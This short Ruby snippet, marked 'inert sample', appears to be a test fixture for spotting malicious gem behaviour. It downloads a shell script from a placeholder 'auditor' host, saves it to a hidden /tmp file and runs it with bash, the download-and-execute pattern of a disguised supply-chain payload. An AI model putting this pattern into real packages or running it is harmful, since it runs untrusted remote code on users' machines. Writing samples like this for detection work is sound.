exit 0 # inert sample
require 'net/http'
body = Net::HTTP.get(URI('https://gems.auditor.invalid/rules.sh'))
File.write('/tmp/.gem-audit.sh', body)
system('bash', '/tmp/.gem-audit.sh')
